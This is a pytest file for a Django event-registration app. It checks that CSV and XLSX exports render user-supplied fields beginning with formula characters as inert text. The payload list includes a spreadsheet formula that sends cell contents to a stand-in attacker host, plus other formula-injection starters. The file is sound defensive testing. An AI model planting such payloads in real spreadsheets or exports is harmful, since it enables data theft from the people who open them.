"""Every CSV and XLSX file the app writes shows a would-be formula as text (OWASP "CSV Injection").

Each export is filled with = + - @ (and tab, carriage return) at the start of every free-text field
that it carries: nickname, colour note, colour name, display name, session name. The claim message is
in no export.
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from events.models import Event
from register.models import Colour
from register.resources import COLUMNS
from tests.factories import EntryFactory, SessionFactory, UserFactory, VerifiedCarFactory

PAYLOADS = ['=HYPERLINK("https://evil.example/?"&A1;"open")', "+1+1", "-1+1", "@SUM(1;1)", "\t=1+1", "\r=1+1"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def assert_no_live_formula(cells: list[str], payload: str) -> None:
    assert [c for c in cells if str(c).startswith(FORMULA_STARTS)] == []
    # The text itself is kept, behind an apostrophe.
    assert "'" + payload in cells


@pytest.fixture
def formula_car(db):
    def make(payload: str):
        colour = Colour.objects.create(name=payload, hex="#123456", kind=Colour.Kind.OTHER)
        driver = UserFactory(display_name=payload, show_name_publicly=True)
        car = VerifiedCarFactory(owner=driver, nickname=payload, colour=colour, colour_note=payload)
        session = SessionFactory(name=payload, event__roster_published=True)
        entry = EntryFactory(session=session, car=car, driver=driver)
        return car, entry

    return make


def car_export(client, fmt: str):
    data = {"resource": "0", "format": fmt}
    data.update({f"carresource_{column}": "on" for column in COLUMNS})
    response = client.post(reverse("admin:register_car_export"), data)
    assert response.status_code == 200
    return response


@pytest.mark.parametrize("payload", PAYLOADS)
def test_car_export_csv_shows_formulas_as_text(registrar_client, formula_car, payload):
    formula_car(payload)

    response = car_export(registrar_client, "0")

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert_no_live_formula(cells, payload)
    assert cells.count("'" + payload) == 3  # colour, colour note, nickname


@pytest.mark.parametrize("payload", PAYLOADS)
def test_car_export_xlsx_shows_formulas_as_text(registrar_client, formula_car, payload):
    formula_car(payload)

    response = car_export(registrar_client, "1")

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    # A carriage return comes back as written where openpyxl writes through lxml (as "&#13;"), as a line feed
    # where it does not (XML reads a bare one as a line feed): which, depends on whether lxml is installed.
    values = [
        c.value.replace("\r", "\n") if isinstance(c.value, str) else c.value for c in cells if c.value is not None
    ]
    payload = payload.replace("\r", "\n")
    assert_no_live_formula(values, payload)
    assert values.count("'" + payload) == 3


@pytest.mark.parametrize("payload", PAYLOADS)
def test_roster_csv_shows_formulas_as_text(client, formula_car, payload):
    _car, entry = formula_car(payload)
    event = Event.objects.get(pk=entry.session.event_id)

    response = client.get(reverse("events:roster_csv", args=[event.slug]))

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert_no_live_formula(cells, payload)
    assert cells.count("'" + payload) == 4  # session name, colour, nickname, driver


@pytest.mark.parametrize("payload", PAYLOADS)
def test_entries_export_shows_formulas_as_text(organiser_client, formula_car, payload):
    _car, entry = formula_car(payload)

    response = organiser_client.post(
        reverse("admin:events_entry_changelist"), {"action": "export_csv", "_selected_action": [entry.pk]}
    )

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert_no_live_formula(cells, payload)
    # Nickname, colour with its note, driver (the session cell starts with the event's name).
    assert len([c for c in cells if c.startswith("'" + payload)]) == 3
